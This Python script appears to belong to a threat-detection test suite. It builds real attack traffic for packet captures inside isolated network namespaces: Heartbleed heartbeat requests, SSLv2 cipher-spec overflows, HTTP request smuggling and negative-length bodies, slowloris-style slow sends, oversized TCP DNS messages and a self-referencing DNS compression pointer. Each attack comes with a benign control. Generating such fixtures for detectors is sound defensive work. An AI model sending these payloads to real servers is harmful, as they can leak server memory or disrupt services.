#!/usr/bin/python3
"""Hand-written clients (and two fake SSH servers) for the real-traffic threat captures.

They run inside the network namespaces of scripts/threat-fixtures.sh and talk over real TCP/UDP
sockets to real servers (nginx, openssl s_server, BIND), so the handshakes, answers and timing are the
kernel's and the servers'; only the bytes that make the attack are written here. Standard library only.

  clients.py http NAME HOST PORT          one raw HTTP request (see REQUESTS), print the status line
  clients.py slow-headers HOST PORT       a GET whose header lines arrive 1.5 s apart (slowloris)
  clients.py slow-upload HOST PORT        a PUT whose 5000-byte body arrives 500 bytes a second
  clients.py heartbeat bad|legal HOST PORT   TLS 1.2 hello, then a heartbeat request (heartbleed or not)
  clients.py sslv2 ok|overflow HOST PORT  an SSLv2 ClientHello (cipher-spec length right or overrunning)
  clients.py mss MSS HOST PORT            a GET over a socket whose SYN advertises MSS (TCP_MAXSEG)
  clients.py dns-tcp-overflow HOST        TCP/53: an A query, then a 3,034-byte message with garbage
  clients.py dns-tcp-large HOST           TCP/53: an A query, a >2 KB TXT answer, a 2.9 KB padded query
  clients.py dns-loop HOST                UDP/53: a query whose name is a pointer to itself
  clients.py ssh-server BANNER PORT       accept one connection, send BANNER, read the client's lines
"""
import os
import socket
import struct
import sys
import time

TIMEOUT = 5


def recv_all(s, quiet=1.0, limit=TIMEOUT):
    """Read until the peer closes or stays quiet for `quiet` seconds."""
    s.settimeout(quiet)
    out, end = b"", time.time() + limit
    while time.time() < end:
        try:
            b = s.recv(65536)
        except socket.timeout:
            break
        except ConnectionResetError:
            break
        if not b:
            break
        out += b
    return out


def connect(host, port, bind_port=0, mss=0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if mss:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, mss)
    if bind_port:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", bind_port))
    s.settimeout(TIMEOUT)
    s.connect((host, port))
    return s


def status(resp):
    line = resp.split(b"\r\n", 1)[0].decode("latin1")
    print(line or "(no answer)", file=sys.stderr)


# --- HTTP ------------------------------------------------------------------------------------

def req(method, path, headers, body=b""):
    h = "".join("%s: %s\r\n" % kv for kv in headers)
    return ("%s %s HTTP/1.1\r\nHost: 10.0.0.10\r\nUser-Agent: nvp-threat-fixture/1.0\r\n%s\r\n" % (method, path, h)).encode() + body


REQUESTS = {
    # Content-Length below zero
    "negative-length": req("POST", "/api/items", [("Content-Type", "text/plain"), ("Content-Length", "-1")], b"x"),
    # chunked body whose chunk size has its top bit set in any width (64 bits of ones)
    "chunk-negative": req("POST", "/api/items", [("Content-Type", "text/plain"), ("Transfer-Encoding", "chunked")],
                          b"ffffffffffffffff\r\nhello\r\n0\r\n\r\n"),
    # two Content-Length headers with different values (request smuggling)
    "smuggling": req("POST", "/api/items", [("Content-Type", "text/plain"), ("Content-Length", "5"), ("Content-Length", "11")],
                     b"hello world"),
    # two Content-Length headers with the same value (RFC 9110 allows folding them: not smuggling)
    "same-length-twice": req("POST", "/api/items", [("Content-Type", "text/plain"), ("Content-Length", "5"), ("Content-Length", "5")],
                             b"hello"),
}


def cmd_http(name, host, port):
    s = connect(host, int(port))
    s.sendall(REQUESTS[name])
    status(recv_all(s))
    s.close()


def cmd_slow_headers(host, port):
    s = connect(host, int(port))
    lines = [b"GET /index.html HTTP/1.1\r\n", b"Host: 10.0.0.10\r\n", b"User-Agent: slowloris/0.7\r\n",
             b"Accept: */*\r\n", b"X-a: 4711\r\n", b"\r\n"]
    for i, line in enumerate(lines):
        if i:
            time.sleep(1.5)
        s.sendall(line)
    status(recv_all(s))
    s.close()


def cmd_slow_upload(host, port):
    s = connect(host, int(port))
    body = bytes(0x41 + i % 26 for i in range(5000))
    s.sendall(req("PUT", "/upload/slow.bin", [("Content-Type", "application/octet-stream"), ("Content-Length", str(len(body)))]))
    for i in range(0, len(body), 500):
        time.sleep(1.0)
        s.sendall(body[i : i + 500])
    status(recv_all(s))
    s.close()


# --- TLS -------------------------------------------------------------------------------------

def ext(code, data):
    return struct.pack("!HH", code, len(data)) + data


def client_hello_tls12(sni):
    name = sni.encode()
    exts = (ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
            + ext(10, struct.pack("!H4H", 8, 0x001D, 0x0017, 0x0018, 0x0019))           # supported_groups
            + ext(11, b"\x01\x00")                                                   # ec_point_formats
            + ext(13, struct.pack("!H8H", 16, 0x0804, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601, 0x0403, 0x0503))
            + ext(15, b"\x01")                                                       # heartbeat: peer_allowed_to_send
            + ext(23, b"")                                                           # extended_master_secret
            + ext(0xFF01, b"\x00"))                                                  # renegotiation_info
    ciphers = [0xC02F, 0xC030, 0xC02B, 0xC02C, 0x009E, 0x009C, 0xC013, 0xC014, 0x002F, 0x0035]
    body = (struct.pack("!H", 0x0303) + os.urandom(32) + b"\x00" + struct.pack("!H", 2 * len(ciphers))
            + b"".join(struct.pack("!H", c) for c in ciphers) + b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return struct.pack("!BHH", 22, 0x0301, len(hs)) + hs  # record version 0x0301, as OpenSSL sends


def read_until_server_hello_done(s):
    buf, end = b"", time.time() + TIMEOUT
    while time.time() < end:
        b = s.recv(65536)
        if not b:
            break
        buf += b
        # walk the records: stop at a handshake record that holds ServerHelloDone (type 14)
        off = 0
        while off + 5 <= len(buf):
            ctype, _, ln = struct.unpack("!BHH", buf[off : off + 5])
            if off + 5 + ln > len(buf):
                break
            rec = buf[off + 5 : off + 5 + ln]
            if ctype == 22:
                p = 0
                while p + 4 <= len(rec):
                    if rec[p] == 14:
                        return True
                    p += 4 + int.from_bytes(rec[p + 1 : p + 4], "big")
            if ctype == 21:
                return False
            off += 5 + ln
    return False


def cmd_heartbeat(kind, host, port):
    s = connect(host, int(port))
    s.sendall(client_hello_tls12("tls.example.test"))
    if not read_until_server_hello_done(s):
        print("no ServerHelloDone", file=sys.stderr)
        sys.exit(1)
    if kind == "bad":
        # heartbleed: a 3-byte heartbeat message that claims a 16,384-byte payload
        hb = b"\x01" + struct.pack("!H", 0x4000)
    else:
        # RFC 6520: type, payload_length 16, 16 payload bytes, 16 bytes of padding
        hb = b"\x01" + struct.pack("!H", 16) + b"nvp-heartbeat-16" + bytes(16)
    s.sendall(struct.pack("!BHH", 24, 0x0303, len(hb)) + hb)
    recv_all(s, quiet=2.0)
    s.close()


def cmd_sslv2(kind, host, port):
    ciphers = bytes.fromhex("010080" "020080" "030080" "0700c0")  # RC4-MD5, EXP-RC4-MD5, RC2-CBC-MD5, DES-CBC3-MD5
    challenge = bytes(range(0x30, 0x40))
    spec_len = len(ciphers) if kind == "ok" else 0x0300  # overflow: claims 768 bytes of cipher specs
    msg = b"\x01" + struct.pack("!HHHH", 0x0002, spec_len, 0, len(challenge)) + ciphers + challenge
    s = connect(host, int(port))
    s.sendall(struct.pack("!H", 0x8000 | len(msg)) + msg)
    recv_all(s, quiet=2.0)
    s.close()


def cmd_mss(mss, host, port):
    s = connect(host, int(port), mss=int(mss))
    s.sendall(req("GET", "/", []))
    status(recv_all(s))
    s.close()


# --- DNS -------------------------------------------------------------------------------------

def dns_name(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"


def dns_query(ident, name, qtype, extra=b"", arcount=0):
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, arcount) + dns_name(name) + struct.pack("!HH", qtype, 1) + extra


def tcp_dns(s, msg):
    s.sendall(struct.pack("!H", len(msg)) + msg)


def tcp_dns_read(s):
    s.settimeout(TIMEOUT)
    head = b""
    while len(head) < 2:
        b = s.recv(2 - len(head))
        if not b:
            return b""
        head += b
    (n,) = struct.unpack("!H", head)
    body = b""
    while len(body) < n:
        b = s.recv(n - len(body))
        if not b:
            break
        body += b
    return body


def cmd_dns_tcp_overflow(host):
    s = connect(host, 53)
    tcp_dns(s, dns_query(0x5101, "www.example.test", 1))
    print("answer %d bytes" % len(tcp_dns_read(s)))
    garbage = bytes((i * 131 + 7) & 0xFF for i in range(3000))
    tcp_dns(s, dns_query(0x5102, "www.example.test", 1) + garbage)
    print("after overflow: %d bytes" % len(recv_all(s, quiet=2.0)))
    s.close()


def cmd_dns_tcp_large(host):
    s = connect(host, 53)
    tcp_dns(s, dns_query(0x5201, "www.example.test", 1))
    print("A answer %d bytes" % len(tcp_dns_read(s)))
    tcp_dns(s, dns_query(0x5202, "big.example.test", 16))
    print("TXT answer %d bytes" % len(tcp_dns_read(s)))
    # EDNS(0) OPT record with a 2,900-byte Padding option (RFC 7830): a legal, fully parsable query
    pad = struct.pack("!HH", 12, 2900) + bytes(2900)
    opt = b"\x00" + struct.pack("!HHIH", 41, 4096, 0, len(pad)) + pad
    q = dns_query(0x5203, "www.example.test", 1, opt, arcount=1)
    tcp_dns(s, q)
    print("padded query %d bytes, answer %d bytes" % (len(q), len(tcp_dns_read(s))))
    s.close()


def cmd_dns_loop(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    # header, then the question name: a compression pointer to offset 12, i.e. to itself
    q = struct.pack("!HHHHHH", 0x5301, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack("!HH", 1, 1)
    s.sendto(q, (host, 53))
    try:
        print("answer %d bytes" % len(s.recv(4096)))
    except socket.timeout:
        print("no answer")


# --- SSH -------------------------------------------------------------------------------------

def cmd_ssh_server(banner, port):
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("0.0.0.0", int(port)))
    ls.listen(1)
    c, _ = ls.accept()
    c.sendall(banner.encode() + b"\r\n")
    got = recv_all(c, quiet=1.5)
    print("client sent %d bytes: %r" % (len(got), got[:40]))
    c.close()
    ls.close()


def main(argv):
    cmds = {
        "http": cmd_http, "slow-headers": cmd_slow_headers, "slow-upload": cmd_slow_upload,
        "heartbeat": cmd_heartbeat, "sslv2": cmd_sslv2, "mss": cmd_mss,
        "dns-tcp-overflow": cmd_dns_tcp_overflow, "dns-tcp-large": cmd_dns_tcp_large, "dns-loop": cmd_dns_loop,
        "ssh-server": cmd_ssh_server,
    }
    if not argv or argv[0] not in cmds:
        print(__doc__, file=sys.stderr)
        return 2
    cmds[argv[0]](*argv[1:])
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
